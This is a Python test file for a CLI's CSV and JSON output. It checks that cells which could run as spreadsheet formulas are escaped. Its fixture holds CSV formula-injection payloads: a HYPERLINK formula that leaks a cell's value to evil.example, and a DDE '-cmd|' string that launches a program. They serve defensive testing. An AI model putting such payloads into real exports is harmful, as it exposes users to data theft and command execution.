"""CSV output quotes cells a spreadsheet would run as formulas; JSON stays raw."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conflictkg.cli.output import csv_cell, render, to_csv, to_json

ROWS = [
    {
        "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        "plus": "+1-2",
        "minus": "-cmd|' /C calc'!A0",
        "at": "@SUM(1+1)",
        "tab": "\t=1",
        "cr": "\r=1",
        "plain": "Turkey",
        "inner": "a=b",
        "lon": -12.5,
        "count": -3,
        "none": None,
        "items": ["=x"],
    }
]


def test_csv_cells_are_escaped_and_numbers_kept() -> None:
    parsed = list(csv.DictReader(io.StringIO(to_csv(ROWS))))
    assert parsed == [
        {
            "formula": '\'=HYPERLINK("http://evil.example/?q="&A1,"click")',
            "plus": "'+1-2",
            "minus": "'-cmd|' /C calc'!A0",
            "at": "'@SUM(1+1)",
            "tab": "'\t=1",
            "cr": "'\r=1",
            "plain": "Turkey",
            "inner": "a=b",
            "lon": "-12.5",
            "count": "-3",
            "none": "",
            "items": '["=x"]',
        }
    ]


def test_json_stays_raw(capsys: pytest.CaptureFixture[str]) -> None:
    assert json.loads(to_json(ROWS)) == ROWS
    render(ROWS, "json")
    assert json.loads(capsys.readouterr().out) == ROWS


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1", "'=1"), ("", ""), ("'=1", "'=1"), (True, "True"), (0.25, "0.25"), ("x=1", "x=1"), (None, "")],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
